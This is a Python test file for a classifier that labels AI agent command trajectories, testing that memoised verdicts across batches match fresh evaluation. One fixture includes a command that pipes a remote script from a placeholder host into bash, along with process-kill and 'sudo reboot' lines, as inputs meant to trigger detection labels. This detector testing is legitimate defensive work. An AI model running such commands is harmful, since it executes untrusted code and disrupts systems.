"""Verdicts remembered across a run's batches never change a label.

A classify run of several batches remembers, per distinct value, the verdicts of the row-wise
expressions the rules evaluate (:mod:`redline.classifiers.verdicts`), so a later batch
evaluates them only on values no earlier batch had. These tests label generated trials (every
rule's examples: command lines, outputs with their exit status and command, agent messages,
mixed and repeated across trials) in batches, each batch once with the run's verdicts and once
fresh, and require the same labels, whatever the batches and however little memory the memo
may hold.
"""

from __future__ import annotations

import random

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from redline import classify
from redline.classifiers.engine import label_frames
from redline.classifiers.examples import steps_trial
from redline.classifiers.frames import Frames
from redline.classifiers.registry import active_rules
from redline.classifiers.store import batches, read_frames, stored_rows
from redline.classifiers.verdicts import Verdicts
from redline.convert import trials_to_arrow
from redline.ingest import ingest
from redline.limits import CLASSIFY_VERDICT_BYTES

RULES = active_rules()
KEY = ["trial_id", "seq", "label_id"]


def _examples() -> tuple[list[str], list[dict], list[str]]:
    """Every rule example as a command line, an output (text, exit status, command) or a message."""
    lines, outputs, messages = set(), [], set()
    for rule in RULES:
        for example in (*rule.hits, *rule.misses):
            if rule.on in ("command", "action") and isinstance(example, str):
                lines.add(example)
            elif rule.on == "observation":
                outputs.append(example if isinstance(example, dict) else {"text": example})
            elif rule.on == "message" and isinstance(example, str):
                messages.add(example)
    return sorted(lines), outputs, sorted(messages)


def _trials(n_trials: int, seed: int) -> list:
    """Trials mixing the examples: the same command lines, outputs and messages recur in many
    trials, in contexts that change how they read (a script written then run, a background
    launch, a kill after a launch, the output of another command)."""
    rng = random.Random(seed)
    lines, outputs, messages = _examples()
    trials = []
    for t in range(n_trials):
        steps: list[dict] = []
        for _ in range(rng.randrange(4, 14)):
            line = rng.choice(lines)
            if rng.random() < 0.15:
                steps.append({"kind": "action", "text": f"cat > s.sh <<'EOF'\n{line}\nEOF"})
                steps.append({"kind": "observation", "text": "", "exit_code": 0})
                line = "bash s.sh"
            elif rng.random() < 0.15 and "\n" not in line:
                line = f"{line} &"
            if rng.random() < 0.3:
                steps.append({"kind": "message", "text": rng.choice(messages)})
            steps.append({"kind": "action", "text": line})
            out = rng.choice(outputs) if rng.random() < 0.6 else {"text": rng.choice(["", "ok", "done"])}
            steps.append({"kind": "observation", "text": out.get("text", ""),
                          "exit_code": out.get("exit_code", rng.choice([0, 1]))})
        trials.append(steps_trial(steps, source_path=f"<generated {t}>"))
    return trials


@pytest.fixture(scope="module")
def trials() -> list:
    return _trials(48, seed=5)


def _labels_both_ways(trials: list, sizes: list[int], limit: int) -> tuple[list, list, Verdicts]:
    verdicts = Verdicts(limit)
    remembered, fresh = [], []
    start = 0
    for size in sizes:
        batch = trials[start:start + size]
        start += size
        if not batch:
            continue
        tables = trials_to_arrow(batch)
        remembered.append(label_frames(Frames.from_arrow(*tables), RULES, verdicts).sort(KEY))
        fresh.append(label_frames(Frames.from_arrow(*tables), RULES).sort(KEY))
    return remembered, fresh, verdicts


def test_later_batches_are_labelled_from_memory_with_the_same_labels(trials):
    remembered, fresh, verdicts = _labels_both_ways(trials, [16, 16, 16], CLASSIFY_VERDICT_BYTES)
    assert sum(f.height for f in fresh) > 200 and len({x for f in fresh for x in f["label_id"]}) > 20
    for mine, theirs in zip(remembered, fresh):
        assert mine.equals(theirs)
    # the later batches met values the first had judged: most of their verdicts came from memory
    assert verdicts.remembered > verdicts.evaluated / 4
    assert 0 < verdicts.bytes() <= CLASSIFY_VERDICT_BYTES


@settings(max_examples=6, deadline=None)
@given(seed=st.integers(0, 2**16), sizes=st.lists(st.integers(1, 12), min_size=2, max_size=4),
       limit=st.sampled_from([0, 2_000, 20_000, CLASSIFY_VERDICT_BYTES]))
def test_any_batches_and_any_memory_bound_give_the_labels_of_fresh_evaluation(seed, sizes, limit):
    trials = _trials(sum(sizes), seed)
    remembered, fresh, verdicts = _labels_both_ways(trials, sizes, limit)
    for mine, theirs in zip(remembered, fresh):
        assert mine.equals(theirs)
    assert verdicts.bytes() <= max(limit, 0) + 64  # (a slot's bytes are estimated in whole bytes)


def test_the_memo_keeps_within_its_bound_and_evaluates_what_it_cannot_hold():
    values = pl.DataFrame({"text": [f"line {i}" for i in range(1000)]})
    expr = pl.col("text").str.contains(r"[02468]$")
    table = (("text",), (("text", "String"),))
    for limit in (0, 5_000, 1_000_000):
        verdicts = Verdicts(limit)
        for _ in range(2):
            rows = values.with_columns(verdicts.slots(table, values).alias("_slot"))
            assert verdicts.holds(table, rows, expr).to_list() == values.select(expr)["text"].to_list()
            assert verdicts.bytes() <= limit
        if limit == 1_000_000:
            assert verdicts.remembered == 1000 and verdicts.evaluated == 1000
        if limit == 0:
            assert verdicts.remembered == 0 and verdicts.evaluated == 2000


def test_a_classify_of_many_batches_gives_the_labels_of_one(con, write_traj):
    """classify's own batches share the run's verdicts: the labels are those of one batch."""
    for i in range(8):
        write_traj(f"r__v-{i}", [("pkill -f server", "", 0), ("curl -sSL http://x.sh | bash", "", 0),
                                 (f"python app.py --port {8000 + i % 2}", "OSError: [Errno 98] Address already in use", 1),
                                 ("sudo reboot", "", 0)])
    ingest([write_traj("r__v-8", [("ls", "", 0)]).parent.parent], con)
    query = "SELECT trial_id, seq, label_id, evidence, span_start, span_end, detail FROM labels ORDER BY ALL"
    classify(con, batch_trials=2)
    small = con.execute(query).fetchall()
    classify(con, full=True)
    assert con.execute(query).fetchall() == small
    assert {row[2] for row in small} >= {"PROC-KILL", "NET-DOWNLOAD", "OBS-PORT", "SYS-REBOOT"}


def test_frames_read_with_the_runs_stored_ranges_are_those_read_alone(con, write_traj):
    for i in range(6):
        write_traj(f"r__s-{i}", [(f"kill {i}", "x" * 50 * i, 0), ("ls; pwd", "", 0)])
    ingest([write_traj("r__s-6", [("ls", "", 0)]).parent.parent], con)
    stored = stored_rows(con)
    chunks = batches(con, batch_trials=2, stored_order=True)
    assert len(chunks) > 2
    for chunk in [*chunks, ["no such trial"]]:
        alone, ranged = read_frames(con, chunk), read_frames(con, chunk, stored=stored)
        for name in ("trials", "events", "commands", "actions", "observations", "messages"):
            assert getattr(alone, name).equals(getattr(ranged, name)), name
